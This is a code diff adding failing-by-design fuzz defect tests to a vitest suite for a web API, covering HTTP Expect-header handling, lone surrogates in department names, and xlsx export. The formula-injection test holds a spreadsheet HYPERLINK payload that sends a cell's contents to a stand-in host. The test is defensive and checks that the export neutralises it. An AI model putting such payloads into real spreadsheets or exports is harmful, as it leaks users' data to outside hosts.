@@ -1,7 +1,9 @@
 import fc from 'fast-check';
-import { afterAll, beforeAll, describe, it } from 'vitest';
+import JSZip from 'jszip';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Store } from '../store/connect.js';
 import { testStores } from '../store/testing.js';
+import { rawRequest } from './fuzz-http.js';
 import { SURFACES } from './fuzz-surfaces.js';
 import { newTally, runCase, setUpWorld, tallyLine, type FuzzWorld, type Tally } from './fuzz-world.js';
 import { startServer, type TestServer } from './testing.js';
@@ -63,4 +65,84 @@ describe.each(testStores())('hostile input on $dialect', ({ dialect, open }) => 
       },
     );
   }
+});
+
+/**
+ * Defects the fuzz found, each as its own failing test (`it.fails`: the suite passes while the defect is there and
+ * fails once it is fixed — then turn it into a plain `it` and remove its KNOWN_DEFECTS entry in fuzz-world.ts).
+ */
+describe.each(testStores())('defects found by the fuzz, on $dialect', ({ open }) => {
+  let store: Store;
+  let server: TestServer;
+  let world: FuzzWorld;
+  beforeAll(async () => {
+    store = await open();
+    server = await startServer(store);
+    world = await setUpWorld(server);
+  }, 120_000);
+  afterAll(async () => {
+    await server.close();
+    await store.close();
+  });
+
+  it.fails(
+    'answers an Expect header other than 100-continue with 417 and {error, message}',
+    { timeout: 30_000 },
+    async () => {
+      const answer = await rawRequest(
+        world.port,
+        { method: 'GET', path: '/api/health', headers: [['Expect', 'something-else']] },
+        10_000,
+      );
+      expect(answer).toMatchObject({ kind: 'answer', status: 417 });
+      const body = answer.kind === 'answer' ? answer.body.toString() : '';
+      const parsed = JSON.parse(body) as { error?: unknown; message?: unknown };
+      expect([typeof parsed.error, typeof parsed.message]).toEqual(['string', 'string']);
+    },
+  );
+
+  it.fails(
+    'refuses a lone surrogate in a department name with 400, as the dataset schema does',
+    { timeout: 30_000 },
+    async () => {
+      const { departmentId } = await world.target('defects');
+      const renamed = await server.call(
+        'PATCH',
+        `/api/departments/${departmentId}`,
+        { name: '雨花\uD800局' },
+        {},
+        'admin',
+      );
+      // Today: 200, and the name is stored as U+FFFD (PostgreSQL) or three of them (SQLite): silently changed.
+      expect(renamed.status).toBe(400);
+    },
+  );
+
+  it(
+    'exports a text that starts with = as text, never as a formula (formula injection)',
+    { timeout: 60_000 },
+    async () => {
+      const { datasetId } = await world.target('formulas');
+      const detail = await server.call('GET', `/api/datasets/${datasetId}`);
+      const document = detail.body['document'] as { department: Record<string, unknown> };
+      const injected = '=HYPERLINK("http://example.invalid/?"&A1,"点击")';
+      const saved = await server.call('PUT', `/api/datasets/${datasetId}`, {
+        baseRevision: (detail.body['latestRevision'] as { revisionNo: number }).revisionNo,
+        document: { ...document, department: { ...document.department, contact: injected } },
+      });
+      expect(saved.status).toBe(200);
+      const exported = await server.fetch(`/api/datasets/${datasetId}/export?format=xlsx`);
+      expect(exported.status).toBe(200);
+      const zip = await JSZip.loadAsync(Buffer.from(await exported.arrayBuffer()));
+      const sheets = Object.keys(zip.files).filter((name) => name.startsWith('xl/worksheets/sheet'));
+      for (const name of sheets) expect(await zip.file(name)?.async('string')).not.toMatch(/<f>[^<]*HYPERLINK/);
+      // And the workbook imports back with the same text.
+      const back = await server.fetch('/api/import?dryRun=true&format=xlsx', {
+        method: 'POST',
+        body: new Uint8Array(await (await server.fetch(`/api/datasets/${datasetId}/export?format=xlsx`)).arrayBuffer()),
+      });
+      const read = (await back.json()) as { document: { department: { contact?: string } } };
+      expect(read.document.department.contact).toBe(injected);
+    },
+  );
 });
